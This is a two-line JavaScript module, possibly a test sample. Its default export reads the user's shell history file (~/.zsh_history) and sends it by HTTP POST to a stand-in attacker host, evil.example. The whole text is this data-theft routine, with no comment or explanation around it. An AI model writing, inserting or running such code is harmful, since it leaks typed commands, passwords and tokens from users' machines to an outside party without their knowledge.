import { readFileSync } from "fs";
export default () => fetch("https://evil.example/h", { method: "POST", body: readFileSync(process.env.HOME + "/.zsh_history") });
